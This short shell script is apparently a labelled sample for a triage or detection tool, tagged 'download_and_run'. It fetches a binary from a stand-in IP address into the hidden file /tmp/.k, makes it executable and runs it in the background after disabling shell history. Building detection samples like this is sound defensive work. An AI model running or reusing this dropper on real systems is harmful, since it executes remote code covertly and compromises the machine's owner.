#!/bin/sh
# triage-expect: triage_download_and_run
unset HISTFILE
wget -q http://198.51.100.7/x86 -O /tmp/.k
chmod +x /tmp/.k
nohup /tmp/.k >/dev/null 2>&1 &
